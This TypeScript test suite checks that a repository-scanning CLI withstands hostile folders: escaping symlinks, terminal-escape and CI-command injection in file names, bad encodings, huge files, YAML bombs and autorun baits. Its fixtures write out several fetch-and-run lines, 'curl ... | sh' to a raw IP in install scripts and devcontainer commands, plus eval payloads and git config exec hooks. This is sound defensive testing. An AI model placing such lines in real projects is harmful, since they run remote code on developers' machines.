/**
 * Hostile folders: links, names, encodings, sizes, counts and depths that try to hide content from the scan, read
 * outside the target, hang it, crash it or inject into its output. Each case runs the real CLI (see harness.ts).
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { closeSync, linkSync, mkdirSync, openSync, symlinkSync, writeSync } from 'node:fs';
import path from 'node:path';
import { assertHygiene, assertIncomplete, PACKAGE_LURE, runCli, sandbox, scanHostile, TASKS_LURE, write, type Sandbox } from './harness.js';
import { hostileInputs, signatureRegexes } from './regexes.js';

describe('hostile folders (CLI, sandboxed)', function () {
  this.timeout(180_000);
  let sb: Sandbox;
  afterEach(() => sb?.cleanup());

  it('F01 symlink to a secret file outside the root: reported, never read', async () => {
    sb = sandbox('f01');
    symlinkSync(sb.secretFile, path.join(sb.target, 'notes.txt'));
    symlinkSync(sb.secretFile, path.join(sb.target, 'package.json'));
    const { result } = await scanHostile(sb, sb.target, ['--verbose']);
    assert.ok(result!.diagnostics.some((d) => d.code === 'symlink-not-followed' && d.file === 'package.json' && /outside/.test(d.message)));
  });

  it('F02 symlink to / and to a directory above the root: not walked', async () => {
    sb = sandbox('f02');
    symlinkSync('/', path.join(sb.target, 'rootfs'));
    symlinkSync('..', path.join(sb.target, 'up'));
    write(path.join(sb.target, 'index.js'), 'console.log(1)\n');
    const { result } = await scanHostile(sb);
    assert.ok(result!.stats.files < 10, `walked ${result!.stats.files} entries: a link was followed`);
    assert.ok(result!.diagnostics.filter((d) => d.code === 'symlink-not-followed').length === 2);
  });

  it('F03 hard link to the secret: read as the tree file it is, nothing printed from it', async () => {
    sb = sandbox('f03');
    linkSync(sb.secretFile, path.join(sb.target, 'README.md'));
    const { result } = await scanHostile(sb);
    assert.equal(result!.verdict, 'pass');
  });

  it('F04 symlink loops (a→b→a, dir→., self): bounded, no crash', async () => {
    sb = sandbox('f04');
    symlinkSync('b', path.join(sb.target, 'a'));
    symlinkSync('a', path.join(sb.target, 'b'));
    symlinkSync('.', path.join(sb.target, 'here'));
    symlinkSync('self', path.join(sb.target, 'self'));
    mkdirSync(path.join(sb.target, 'd'));
    symlinkSync('../d', path.join(sb.target, 'd', 'again'));
    const { result } = await scanHostile(sb);
    assert.equal(result!.diagnostics.filter((d) => d.code === 'symlink-not-followed').length, 5);
  });

  it('F05 a file name with ANSI and OSC escapes: escaped in text, JSON, SARIF and Markdown', async () => {
    sb = sandbox('f05');
    const evil = 'x\x1b]0;owned\x07\x1b[2J\x1b[31mred\x9b6n';
    write(path.join(sb.target, evil, 'package.json'), PACKAGE_LURE);
    const { result } = await scanHostile(sb);
    assert.equal(result!.verdict, 'block');
    assert.ok(result!.findings.some((f) => f.location.file.startsWith(evil)), 'JSON keeps the real name, escaped by JSON');
    for (const format of ['text', 'sarif', 'markdown'] as const) {
      const r = await runCli([sb.target, '--format', format, '--quiet'], sb.env);
      assertHygiene(sb, r, { format });
      assert.ok(!r.stdout.includes('\x07') && !r.stdout.includes('\x9b'), `${format}: raw BEL or CSI`);
    }
  });

  it('F06 a file name with a newline and ::error:: cannot start a workflow command or a fake report line', async () => {
    sb = sandbox('f06');
    const evil = 'a\n::error file=x::PASS — nothing found\n::stop-commands::t';
    write(path.join(sb.target, evil, 'package.json'), PACKAGE_LURE);
    const { result } = await scanHostile(sb);
    assert.equal(result!.verdict, 'block');
    const r = await runCli([sb.target, '--quiet'], sb.env);
    assertHygiene(sb, r, { format: 'text' });
    for (const line of r.stdout.split('\n')) assert.ok(!line.startsWith('::'), `a line starts a workflow command: ${line}`);
    assert.match(r.stdout, /^BLOCK/);
  });

  it('F07 invalid UTF-8 in manifests and tasks: no crash, the lure around it still found', async () => {
    sb = sandbox('f07');
    const bad = Buffer.from([0xc3, 0x28, 0xa0, 0xa1, 0xe2, 0x28, 0xa1, 0xf0, 0x28, 0x8c, 0xbc, 0xff, 0xfe, 0xfd]);
    write(path.join(sb.target, 'package.json'), Buffer.concat([Buffer.from('{"name":"x'), bad, Buffer.from('","scripts":{"postinstall":"curl -s http://45.61.1.2:1224/pdown | sh"}}')]));
    write(path.join(sb.target, 'src', 'bad.js'), Buffer.concat([bad, Buffer.from('\neval(atob("Y29uc29sZS5sb2c="))\n'), bad]));
    write(path.join(sb.target, 'requirements.txt'), bad);
    const { result } = await scanHostile(sb);
    assert.equal(result!.verdict, 'block');
  });

  it('F08 UTF-16 LE and BE with BOM: decoded, the task lure blocks', async () => {
    for (const be of [false, true]) {
      sb = sandbox(`f08${be ? 'be' : 'le'}`);
      const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(TASKS_LURE, 'utf16le')]);
      write(path.join(sb.target, '.vscode', 'tasks.json'), be ? Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(TASKS_LURE, 'utf16le').swap16()]) : le);
      const { result } = await scanHostile(sb);
      assert.equal(result!.verdict, 'block', be ? 'UTF-16BE' : 'UTF-16LE');
      sb.cleanup();
    }
  });

  it('F09 a 20 MB single line with the payload at its end: incomplete, never a clean pass', async () => {
    sb = sandbox('f09');
    const fd = openSync(path.join(sb.target, 'app.min.js'), 'w');
    const chunk = Buffer.alloc(1024 * 1024, 'a=1;');
    for (let i = 0; i < 20; i++) writeSync(fd, chunk);
    writeSync(fd, 'fetch("http://45.61.1.2:1224/pdown").then(r=>r.text()).then(eval);');
    closeSync(fd);
    const { result } = await scanHostile(sb);
    assertIncomplete(result, 'file-too-large');
  });

  it('F10 a 1 GB sparse file: reported by size without reading it', async () => {
    sb = sandbox('f10');
    const fd = openSync(path.join(sb.target, 'vendor.js'), 'w');
    writeSync(fd, 'eval(1)', 1024 * 1024 * 1024 - 7);
    closeSync(fd);
    const { run, result } = await scanHostile(sb);
    assertIncomplete(result, 'file-too-large');
    assert.ok(run.ms < 60_000);
  });

  it('F11 a 1 GB sparse file that claims to be a PNG but is not: incomplete', async () => {
    sb = sandbox('f11');
    const fd = openSync(path.join(sb.target, 'logo.png'), 'w');
    writeSync(fd, 'require("child_process").exec(x)', 1024 * 1024 * 1024);
    closeSync(fd);
    const { result } = await scanHostile(sb);
    assertIncomplete(result, 'file-too-large');
  });

  it('F12 30,000 files: scanned in bounded time, the one lure among them found', async () => {
    sb = sandbox('f12');
    for (let d = 0; d < 100; d++) {
      const dir = path.join(sb.target, 'src', `m${d}`);
      mkdirSync(dir, { recursive: true });
      for (let f = 0; f < 300; f++) {
        const fd = openSync(path.join(dir, `f${f}.js`), 'w');
        writeSync(fd, `export const v${f} = ${f};\n`);
        closeSync(fd);
      }
    }
    write(path.join(sb.target, '.vscode', 'tasks.json'), TASKS_LURE);
    const { result } = await scanHostile(sb);
    assert.ok(result!.stats.files >= 30_000);
    assert.equal(result!.verdict, 'block');
  });

  it('F13 150 nested folders with the payload at the bottom: depth cap makes it incomplete', async () => {
    sb = sandbox('f13');
    const deep = path.join(sb.target, ...Array.from({ length: 150 }, () => 'd'));
    write(path.join(deep, 'package.json'), PACKAGE_LURE);
    const { result } = await scanHostile(sb);
    assertIncomplete(result, 'depth-limit');
  });

  it('F14 package.json of 100,000 nested brackets: a parse diagnostic, no stack overflow', async () => {
    sb = sandbox('f14');
    write(path.join(sb.target, 'package.json'), `{"name":"x","scripts":{"a":${'['.repeat(100_000)}${']'.repeat(100_000)}}}`);
    write(path.join(sb.target, '.vscode', 'tasks.json'), `{"tasks":${'['.repeat(100_000)}`);
    write(path.join(sb.target, '.devcontainer', 'devcontainer.json'), `${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}`);
    write(path.join(sb.target, 'package-lock.json'), `{"lockfileVersion":3,"packages":${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}}`);
    const { result } = await scanHostile(sb);
    assert.notEqual(result!.verdict, undefined);
  });

  it('F15 a huge lockfile (over the file cap) and malformed lockfiles of every kind: diagnostics, incomplete', async () => {
    sb = sandbox('f15');
    write(path.join(sb.target, 'package.json'), JSON.stringify({ name: 'x', dependencies: { a: '1' } }));
    const fd = openSync(path.join(sb.target, 'package-lock.json'), 'w');
    writeSync(fd, '{"lockfileVersion":3,"packages":{"":{}');
    const entry = Buffer.from(`,"node_modules/p${'x'.repeat(40)}":{"version":"1.0.0","resolved":"https://registry.npmjs.org/p/-/p-1.0.0.tgz","integrity":"sha512-${'A'.repeat(86)}=="}`);
    for (let i = 0; i < 60_000; i++) writeSync(fd, entry);
    writeSync(fd, '}}');
    closeSync(fd);
    write(path.join(sb.target, 'yarn.lock'), '# yarn lockfile v1\n\n"a@^1":\n  version "1\n  resolved ""\n\x00\x01\n  integrity\n');
    write(path.join(sb.target, 'pnpm-lock.yaml'), "lockfileVersion: '9.0'\npackages:\n  'a@1': {resolution: {integrity: [}\n  : :\n\t- x");
    write(path.join(sb.target, 'bun.lock'), '{"lockfileVersion": 1, "packages": {"a": [1, 2,, }');
    write(path.join(sb.target, 'bun.lockb'), Buffer.from('#!/usr/bin/env bun\nbun-lockfile-format-v0\n\x00\x01\x02garbage'));
    write(path.join(sb.target, 'poetry.lock'), '[[package]\nname = "x\n');
    write(path.join(sb.target, 'Pipfile.lock'), '{"default": {"x": ');
    write(path.join(sb.target, 'uv.lock'), 'version = 1\n[[package]]\nname = 5\nversion = {a=1}\n');
    const { result } = await scanHostile(sb);
    assertIncomplete(result, 'file-too-large');
    const files = new Set(result!.diagnostics.map((d) => d.file));
    for (const f of ['pnpm-lock.yaml', 'bun.lock', 'poetry.lock', 'Pipfile.lock']) assert.ok(files.has(f), `no diagnostic for malformed ${f}: ${[...files].join(', ')}`);
  });

  it('F16 YAML billion laughs in pnpm-lock.yaml and lefthook.yml: refused quickly, no blow-up', async () => {
    sb = sandbox('f16');
    const lol = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
    for (let i = 1; i < 10; i++) {
      const p = String.fromCharCode(97 + i - 1);
      const n = String.fromCharCode(97 + i);
      lol.push(`${n}: &${n} [*${p},*${p},*${p},*${p},*${p},*${p},*${p},*${p},*${p}]`);
    }
    const bomb = `${lol.join('\n')}\n`;
    write(path.join(sb.target, 'pnpm-lock.yaml'), `lockfileVersion: '9.0'\n${bomb}packages: *j\n`);
    write(path.join(sb.target, 'lefthook.yml'), `${bomb}pre-commit:\n  commands: *j\n`);
    write(path.join(sb.target, '.lefthook.yml'), `${bomb}post-checkout:\n  commands:\n    x:\n      run: *j\n`);
    const { result } = await scanHostile(sb);
    assert.ok(result!.diagnostics.some((d) => d.file === 'pnpm-lock.yaml'), 'the lockfile bomb has a diagnostic');
    assert.ok(result!.diagnostics.some((d) => d.file === 'lefthook.yml'), 'the lefthook bomb has a diagnostic');
  });

  it('F17 JSONC with an unterminated comment hiding the rest of tasks.json: never a clean pass', async () => {
    sb = sandbox('f17');
    write(path.join(sb.target, '.vscode', 'tasks.json'), `{"version":"2.0.0", /* ${TASKS_LURE}`);
    write(path.join(sb.target, '.vscode', 'settings.json'), '{ "a": 1 // unterminated\n /* and a block');
    write(path.join(sb.target, '.devcontainer', 'devcontainer.json'), '{"postCreateCommand": "curl http://45.61.1.2:1224/pdown | sh" /*');
    const { result } = await scanHostile(sb);
    assert.ok(result!.verdict !== 'pass' || !result!.complete, `verdict ${result!.verdict}, complete ${result!.complete}`);
    assert.ok(result!.diagnostics.some((d) => d.file === '.vscode/tasks.json'), 'the unterminated comment is named');
  });

  it('F18 a FIFO, a socket-like special file and a directory named package.json: skipped, no hang', async () => {
    sb = sandbox('f18');
    execFileSync('mkfifo', [path.join(sb.target, 'install.js')]);
    execFileSync('mkfifo', [path.join(sb.target, 'requirements.txt')]);
    mkdirSync(path.join(sb.target, 'package.json'));
    write(path.join(sb.target, 'package.json', 'x'), '1');
    await scanHostile(sb);
  });

  it('F19 bidi overrides and zero-width characters in names and snippets are escaped in text', async () => {
    sb = sandbox('f19');
    const evil = 'safe\u202etxt.js\u2066\u200f';
    write(path.join(sb.target, evil, 'package.json'), PACKAGE_LURE);
    const r = await runCli([sb.target, '--quiet'], sb.env);
    assertHygiene(sb, r, { format: 'text' });
    assert.ok(!/[\u202a-\u202e\u2066-\u2069\u200e\u200f]/.test(r.stdout), 'a raw bidi control reached the terminal');
    assert.match(r.stdout, /\\u202e/);
  });

  it('F21 regex-hostile content for every signature pattern, where each pattern looks (URLs, scripts, tasks, paths)', async () => {
    sb = sandbox('f21');
    const scripts: Record<string, string> = {};
    const tasks: { label: string; type: string; command: string }[] = [];
    signatureRegexes().forEach((r, i) => {
      const inputs = hostileInputs(r, 2_000);
      write(path.join(sb.target, 'src', `r${i}.js`), inputs.map((x, j) => `fetch(${JSON.stringify(`http://${x}`)}); const s${j} = ${JSON.stringify(x)};`).join('\n'));
      scripts[`postinstall${i}`] = inputs[0];
      tasks.push({ label: `t${i}`, type: 'shell', command: inputs[inputs.length - 1] });
      write(path.join(sb.target, `${inputs[0].slice(0, 100).replace(/[^a-z0-9]/gi, '_')}${i}`, 'x.js'), 'x');
    });
    write(path.join(sb.target, 'package.json'), JSON.stringify({ name: 'x', scripts }));
    write(path.join(sb.target, '.vscode', 'tasks.json'), JSON.stringify({ version: '2.0.0', tasks }));
    write(path.join(sb.target, '.env'), signatureRegexes().map((r, i) => `K${i}=${hostileInputs(r, 2_000)[0]}`).join('\n'));
    const { run } = await scanHostile(sb);
    assert.ok(run.ms < 90_000);
  });

  it('F20 every autorun bait (install scripts, tasks, devcontainer, hooks, .git/config) is reported, none runs', async () => {
    sb = sandbox('f20');
    const t = sb.touch;
    write(path.join(sb.target, 'package.json'), JSON.stringify({ name: 'x', scripts: { preinstall: t, postinstall: t, prepare: t } }));
    write(path.join(sb.target, '.vscode', 'tasks.json'), JSON.stringify({ version: '2.0.0', tasks: [{ label: 'x', type: 'shell', command: t, runOptions: { runOn: 'folderOpen' } }] }));
    write(path.join(sb.target, '.devcontainer', 'devcontainer.json'), JSON.stringify({ initializeCommand: t, postCreateCommand: t }));
    write(path.join(sb.target, '.husky', 'pre-commit'), `#!/bin/sh\n${t}\n`);
    write(path.join(sb.target, '.git', 'hooks', 'post-checkout'), `#!/bin/sh\n${t}\n`);
    write(path.join(sb.target, '.git', 'config'), `[core]\n\tfsmonitor = ${t}\n\thooksPath = .husky\n[filter "x"]\n\tsmudge = ${t}\n`);
    write(path.join(sb.target, '.gitattributes'), '* filter=x\n');
    write(path.join(sb.target, 'lefthook.yml'), `post-checkout:\n  commands:\n    x:\n      run: ${t}\n`);
    write(path.join(sb.target, 'setup.py'), `import os\nos.system("${t}")\n`);
    const { result } = await scanHostile(sb);
    assert.notEqual(result!.verdict, 'pass');
    const rules = new Set(result!.findings.map((f) => f.ruleId));
    assert.ok(rules.has('git-config-exec'), [...rules].join(','));
  });
});
